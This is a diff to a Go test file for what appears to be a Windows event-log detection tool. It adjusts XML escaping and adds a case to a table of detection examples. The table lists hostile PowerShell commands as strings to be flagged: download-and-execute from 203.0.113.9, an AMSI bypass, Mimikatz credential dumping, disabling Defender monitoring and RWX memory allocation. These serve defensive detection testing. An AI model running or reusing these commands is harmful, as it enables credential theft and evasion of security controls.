@@ -7,7 +7,9 @@ import (
 	"time"
 )
 
-var xmlText = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
+// xmlText writes a text as Windows does: apostrophes are escaped, quotation marks
+// are not.
+var xmlText = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;")
 
 // winRaw is an event of a Windows channel with the text of its sections.
 func winRaw(channel, provider string, id int, level, keywords, sections string) []event {
@@ -278,7 +280,7 @@ var windowsExamples = []example{
 	eg(902161, then(scripted("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"), scripted("iwr http://203.0.113.9/a | iex")), scripted("Invoke-WebRequest https://example.org/a.zip -OutFile a.zip")),
 	eg(902162, scripted("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))"), scripted("[Convert]::FromBase64String($cert)")),
 	eg(902163, scripted("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"), scripted("Get-Command *amsi*")),
-	eg(902164, then(scripted("Invoke-Mimikatz -DumpCreds"), scripted("privilege::debug sekurlsa::logonpasswords")), scripted("Get-Process lsass")),
+	eg(902164, then(scripted("Invoke-Mimikatz -DumpCreds"), scripted("$a = 1\r\nInvoke-Mimikatz\r\n"), scripted("privilege::debug sekurlsa::logonpasswords")), scripted("Get-Process lsass")),
 	eg(902165, then(scripted("Invoke-BloodHound -CollectionMethod All"), scripted("Get-DomainUser -SPN")), scripted("Get-ADUser bob")),
 	eg(902166, then(scripted("Set-MpPreference -DisableRealtimeMonitoring $true"), scripted("Add-MpPreference -ExclusionPath C:\\x")), scripted("Set-MpPreference -DisableRealtimeMonitoring $false")),
 	eg(902167, scripted("[W]::VirtualAlloc(0, $b.Length, 0x3000, 0x40)"), scripted("Get-Help virtual")),
